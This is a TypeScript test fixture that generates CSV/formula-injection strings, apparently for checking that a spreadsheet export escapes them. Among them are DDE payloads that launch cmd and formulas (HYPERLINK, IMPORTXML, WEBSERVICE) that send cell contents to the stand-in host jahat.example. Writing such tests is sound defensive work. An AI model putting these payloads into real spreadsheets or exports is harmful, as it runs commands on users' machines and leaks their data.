/** What makes a spreadsheet run a cell, in every disguise that we know of (OWASP: CSV injection). */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\0=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00A0=',
  '\u2009=',
];
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://jahat.example?x="&A1,"klik")',
  'IMPORTXML(CONCAT("https://jahat.example/",A1),"//a")',
  'WEBSERVICE("https://jahat.example")',
  '1+1',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
  'A1&"x""y""z"',
  'A1:Z9',
  '"; =1+1; "',
  ',=1+1,',
  'x\n=1+1',
  'x\r\n=1+1',
  '<b>tebal</b> & "kutip"',
];

const others = [
  '_x0041_ bukan A',
  '_x000D_',
  'kendali \u0001\u0007\u001B[31m\u007F\uFFFE\uFFFF',
  ' jarak di depan dan belakang ',
  'baris\nbaru\tdan tab',
  '🙏🏽 👨‍👩‍👧 ',
  'ﷺ سلام',
  ']]></t><f>1+1</f>',
  '-5',
  '+62',
];

export const formulaTexts: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  ...others,
];
